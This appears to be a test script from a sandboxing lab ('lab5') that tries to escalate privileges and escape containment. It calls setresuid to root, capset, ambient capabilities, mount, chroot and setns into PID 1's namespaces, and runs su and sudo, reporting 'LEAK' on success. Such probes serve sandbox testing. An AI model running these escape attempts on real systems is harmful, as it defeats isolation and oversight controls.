# attack: Tries to become what it is told that it is: ids, capabilities, setuid programs, mounts, namespaces.
# lab: lab5
# earns: 5.1 5.2 5.3 5.4 5.5

import ctypes
import glob
import os
import struct
import subprocess

libc = ctypes.CDLL(None)
libc.setresuid(0, 0, 0), libc.setresgid(0, 0, 0), libc.setgroups(0, None)
everything = struct.pack("IIIIII", *[0xFFFFFFFF] * 6)
libc.capset(ctypes.create_string_buffer(struct.pack("II", 0x20080522, 0)), everything)
for number in range(41):
    libc.prctl(47, 2, number, 0, 0)  # Ambient.
libc.prctl(38, 0, 0, 0, 0), libc.prctl(28, 0x2F, 0, 0, 0)
for attempt in (
    lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
    lambda: libc.mount(None, b"/", None, 0x1000 | 0x20, None),
    lambda: libc.umount2(b"/sys/fs/bpf", 2),
    lambda: libc.chroot(b"/proc/1/root"),
    *(lambda path=path: libc.setns(os.open(path, os.O_RDONLY), 0) for path in glob.glob("/proc/1/ns/*")),
):
    try:
        print("LEAK a mount or a namespace" if attempt() == 0 else "refused", flush=True)
    except OSError as error:
        print(error, flush=True)
for command in (["su", "-c", "id -ur"], ["mount", "--bind", "/", "/mnt"], ["newuidmap", "1", "0", "0", "1"], ["sudo", "-n", "id"]):
    try:
        done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, timeout=2)
        print("LEAK" if done.returncode == 0 else "refused", command, flush=True)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(error, flush=True)
fields = dict(line.split(":\t") for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
ids, held = fields["Uid"].split(), int(fields["CapEff"], 16) & ~(3 << 38 | 1 << 21)
print("LEAK" if "0" in ids or held else "still", ids, hex(held), flush=True)
raise SystemExit(3)
